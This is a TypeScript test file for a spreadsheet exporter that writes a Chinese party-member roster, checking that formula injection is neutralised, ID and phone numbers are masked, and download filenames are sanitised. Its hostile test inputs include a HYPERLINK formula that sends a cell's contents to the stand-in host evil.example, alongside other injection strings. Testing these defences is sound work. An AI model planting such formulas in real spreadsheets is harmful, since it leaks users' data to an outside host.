import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { contentDisposition } from './content-disposition.ts';
import { streamXlsx, writeXlsx, type XlsxSpec } from './xlsx.ts';

const spec: XlsxSpec = {
  sheetName: '名册',
  title: '党员名册',
  columns: [
    { header: '姓名', key: 'name' },
    { header: '公民身份号码', key: 'idNumber', pii: 'id' },
    { header: '手机号码', key: 'phone', pii: 'phone' },
    { header: '备注', key: 'note' },
    { header: '党员数', key: 'count' },
  ],
};
const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '@SUM(1)', '-1+1', '+86 138 0013 8000', '\tcmd', '\r=1', '\n=1', '\0x'];
const rows = hostile.map((note, i) => ({ name: `张${i}`, idNumber: '110105199001011234', phone: '13800138000', note, count: i }));

async function readBack(buf: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  const zip = unzipSync(new Uint8Array(buf));
  const sheetXml = Object.entries(zip)
    .filter(([n]) => n.startsWith('xl/worksheets/'))
    .map(([, d]) => strFromU8(d))
    .join('');
  return { ws, sheetXml };
}

describe('xlsx writer', () => {
  it('neutralises every formula-like text cell and writes no formula at all', async () => {
    const { ws, sheetXml } = await readBack(await writeXlsx({ ...spec, rows }));
    expect(ws.name).toBe('名册');
    expect(ws.getRow(1).getCell(1).value).toBe('党员名册');
    expect(ws.getRow(2).values).toEqual([undefined, '姓名', '公民身份号码', '手机号码', '备注', '党员数']);
    hostile.forEach((h, i) => {
      const v = ws.getRow(3 + i).getCell(4).value;
      // XML normalises a bare CR to LF and cannot carry NUL; what matters is the leading quote
      expect(v).toBe(`'${h.replace('\r', '\n').replace('\0', '')}`);
      expect(ws.getRow(3 + i).getCell(4).formula).toBeUndefined();
    });
    expect(ws.getRow(3).getCell(5).value).toBe(0);
    expect(sheetXml).not.toMatch(/<f[ >]/);
    expect(sheetXml).toContain('<autoFilter ref="A2:E2"');
    expect(sheetXml).toMatch(/<pane [^>]*ySplit="2"[^>]*state="frozen"/);
    expect(ws.getRow(2).getCell(1).font?.bold).toBe(true);
  });

  it('masks personal data unless the caller may see it in full', async () => {
    const masked = (await readBack(await writeXlsx({ ...spec, rows: rows.slice(0, 1) }))).ws.getRow(3);
    expect(masked.getCell(2).value).toBe('110105********1234');
    expect(masked.getCell(3).value).toBe('138****8000');
    const full = (await readBack(await writeXlsx({ ...spec, rows: rows.slice(0, 1), unmask: true }))).ws.getRow(3);
    expect(full.getCell(2).value).toBe('110105199001011234');
    expect(full.getCell(3).value).toBe('13800138000');
  });

  it('streams large lists with the same neutralising and masking', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    const done = new Promise((r) => out.on('end', r));
    async function* many() {
      for (let i = 0; i < 5000; i++)
        yield { name: `李${i}`, idNumber: '110105199001011234', phone: '13800138000', note: i % 2 ? '=1+1' : '正常', count: i };
    }
    const n = await streamXlsx(spec, many(), out);
    await done;
    expect(n).toBe(5000);
    const { ws, sheetXml } = await readBack(Buffer.concat(chunks));
    expect(ws.rowCount).toBe(5002);
    expect(ws.getRow(4).getCell(4).value).toBe("'=1+1");
    expect(ws.getRow(5002).getCell(3).value).toBe('138****8000');
    expect(sheetXml).not.toMatch(/<f[ >]/);
  });

  it('names files in Chinese with an ASCII fallback', () => {
    expect(contentDisposition('党组织名册(2026).xlsx')).toBe(
      `attachment; filename="(2026).xlsx"; filename*=UTF-8''${encodeURIComponent('党组织名册')}%282026%29.xlsx`,
    );
    expect(contentDisposition('a"b\r\n.pdf', true)).toBe(`inline; filename="a_b__.pdf"; filename*=UTF-8''a_b__.pdf`);
  });
});
